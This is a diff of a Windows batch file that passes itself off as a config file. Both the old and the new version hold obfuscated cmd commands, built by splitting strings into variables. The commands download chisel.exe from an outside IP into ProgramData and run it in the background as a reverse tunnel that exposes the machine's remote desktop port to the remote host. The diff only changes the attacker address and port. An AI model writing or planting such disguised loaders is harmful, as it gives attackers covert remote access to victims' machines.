@@ -1,4 +1,4 @@
-REM config 9547 v2
+REM config 9731 v2
 @echo off
-cmd /v:on /c "set fga0=curl -sLo C:\ProgramData\chis&&set ftg1=el.exe http://198.51.100.23/ch&&set vwj2=is&&set rvz3=el.exe&&!fga0!!ftg1!!vwj2!!rvz3!"
-cmd /v:on /c "set iuk0=start /b C:\ProgramData\chisel.&&set ibr1=exe client 198.51.100.23:&&set smz2=8443 R:33&&set wbo3=89:127.0.0.1:3389&&!iuk0!!ibr1!!smz2!!wbo3!"
+cmd /v:on /c "set jwc0=curl -sLo C:\ProgramData\ch&&set owz1=isel.exe http&&set now2=://192.0.2.44/chisel.exe&&!jwc0!!owz1!!now2!"
+cmd /v:on /c "set jfl0=start /b&&set ajn1= C:\ProgramData\ch&&set goj2=isel.exe client 192&&set wiu3=.0.2.44:1337 R:3389:127.0.0.1:&&set grq4=3389&&!jfl0!!ajn1!!goj2!!wiu3!!grq4!"
